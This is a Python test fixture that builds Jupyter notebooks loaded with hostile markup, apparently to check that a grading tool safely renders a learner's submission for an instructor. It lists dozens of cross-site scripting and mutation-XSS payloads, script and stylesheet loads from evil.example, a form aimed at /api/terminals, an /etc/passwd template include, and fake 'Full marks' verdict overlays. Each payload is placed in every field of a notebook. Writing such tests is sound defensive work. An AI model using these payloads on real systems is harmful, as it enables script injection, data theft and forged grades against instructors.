"""What a hostile learner could hand in to have something happen on the instructor's screen."""

from __future__ import annotations

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

SET = "window.pwned=1"
SCRIPT = f"<script>{SET}</script>"

MARKUP = {
    "script": SCRIPT,
    "script in capitals": f"<ScRiPt >{SET}</sCrIpT >",
    "script from afar": "<script src=//evil.example/a.js></script>",
    "half a script": f"<script>{SET}",
    "nested script": f"<scr<script>ipt>{SET}</scr</script>ipt>",
    "image that fails": f"<img src=x onerror={SET}>",
    "image with a slash": f"<img/src=x/onerror={SET}//>",
    "image from afar": "<img src=https://evil.example/pixel.png>",
    "image set from afar": '<img srcset="https://evil.example/a.png 1x">',
    "svg that loads": f"<svg onload={SET}><circle r=1></svg>",
    "svg data image": f'<img src="data:image/svg+xml;base64,{base64.b64encode(b"<svg onload=alert(1)>").decode()}">',
    "png that is a page": f'<img src="data:image/png;base64,{base64.b64encode(SCRIPT.encode()).decode()}">',
    "iframe": f"<iframe srcdoc='{SCRIPT}'></iframe>",
    "iframe with a script address": f"<iframe src='javascript:{SET}'></iframe>",
    "link with a script": f"<a href='javascript:{SET}'>x</a>",
    "link with a hidden script": f"<a href='java&#10;script:{SET}'>x</a>",
    "link with data": "<a href='data:text/html,<script>1</script>'>x</a>",
    "link into the server": "<a href='/api/contents/solutions'>x</a>",
    "link without a scheme": "<a href='//evil.example'>x</a>",
    "form": "<form action=https://evil.example><input name=q><button formaction=/api/terminals>Go</button></form>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/a.css>",
    "style element": "<style>*{background:url(https://evil.example/a)}</style>",
    "style that covers": "<div style='position:fixed;inset:0;z-index:9999'>Full marks</div>",
    "style that asks": "<p style='background:url(https://evil.example/a);text-align:url(https://evil.example/b)'>x</p>",
    "name of the page's": "<b id=content>x</b><b id=exercise-1-title>x</b><img name=document><a name=contents>x</a>",
    "a verdict's looks": "<div role=status class='scomm-verdict scomm-right'>Right</div>",
    "object and embed": "<object data=https://evil.example/a></object><embed src=https://evil.example/b>",
    "math that mutates": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={SET}&gt;'>",
    "noscript that mutates": f"<noscript><p title='</noscript><img src=x onerror={SET}>'>",
    "title that closes": f"</title></textarea></style></script>{SCRIPT}",
    "template": f"<template>{SCRIPT}</template>",
    "details that open": f"<details open ontoggle={SET}>x</details>",
    "video": f"<video src=https://evil.example/v onloadstart={SET}></video>",
    "comment that ends": f"<!--><img src=x onerror={SET}>-->",
    "deep": "<div>" * 20_000 + SCRIPT,
    "long": "<p>" + "x" * 2_000_000 + SCRIPT,
    "lone surrogate": "\ud800" + SCRIPT,
    "template language": "{{ resources }}{% include '/etc/passwd' %}" + SCRIPT,
    "math and lines": f"$$\n\n{SCRIPT}\n\n$$ \\({SCRIPT}\\) $x$",
    "code fence that ends": f"```\n</code></pre>{SCRIPT}\n```\n\n{SCRIPT}",
    "blank lines": f"<div>\n\n    {SCRIPT}\n\n</div>\n\n{SCRIPT}",
    "markdown link": f"[x](javascript:{SET}) [y](<java\nscript:{SET}>) ![z](https://evil.example/p.png) <javascript:{SET}>",
    "reference link": f"[x][1]\n\n[1]: javascript:{SET}",
    "terminal link": f"\x1b]8;;javascript:{SET}\x07x\x1b]8;;\x07 \x1b[31m{SCRIPT}\x1b[0m",
}

KINDS = [
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "image/svg+xml",
    "application/javascript",
    "application/pdf",
    "application/json",
    "text/vnd.mermaid",
    "application/x-unknown",
]


def attacked(markup: str) -> NotebookNode:
    """A notebook with this markup wherever a learner can put text."""
    png = base64.b64encode(markup.encode("utf-8", "replace")).decode()
    outputs = [new_output("display_data", data={kind: markup}) for kind in KINDS]
    outputs += [
        new_output("display_data", data={"text/html": markup}, metadata={"text/html": {"isolated": True}}),
        new_output(
            "display_data", data={"image/png": png}, metadata={"image/png": {"alt": markup, "width": markup}}
        ),
        new_output("display_data", data={"image/png": markup, "image/jpeg": f'" onerror={SET} x="'}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": markup}}),
        new_output("display_data", data={"application/vnd.plotly.v1+json": _figure(markup)}),
        new_output("stream", name="stdout", text=markup),
        new_output("error", ename=markup, evalue=markup, traceback=[markup]),
        NotebookNode(output_type="display_data", data={"text/html": [markup, 1]}, metadata={}),
        NotebookNode(output_type=markup, data={"text/html": markup}),
    ]
    nb = new_notebook(
        cells=[
            new_markdown_cell(markup, attachments={"a": {f'image/png" onerror="{SET}': png}}),
            new_markdown_cell(f"# Title\n\n{markup} ![a](attachment:a)"),
            new_raw_cell(markup, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
            new_code_cell(markup),
            new_code_cell("%%html\n" + markup),
        ],
        metadata={
            "title": markup,
            "authors": [{"name": markup}],
            "language_info": {"name": markup, "pygments_lexer": markup, "mimetype": markup},
            "kernelspec": {"name": markup, "display_name": markup, "language": markup},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {markup: markup}}},
            "scomm": {"title": markup, "notes": [markup], "state": "not-graded", "reason": markup},
        },
    )
    # no library lets a notebook be made like this; a file can be like this
    nb.cells[3].outputs = outputs
    nb.cells[3].metadata = NotebookNode(tags=[markup], name=markup, alt=markup)
    nb.cells[4].metadata = NotebookNode(
        magics_language=markup, scomm=NotebookNode(title=markup, state=markup)
    )
    nb.cells[3].execution_count = markup
    nb.cells[3].id = markup
    return nb


def _figure(markup: str) -> dict:
    trace = {"type": "bar", "x": [markup, "b"], "y": [1, 2], "name": markup, "hovertemplate": markup}
    return {
        "data": [trace, trace],
        "layout": {"title": {"text": markup}, "xaxis": {"title": {"text": markup}}},
    }
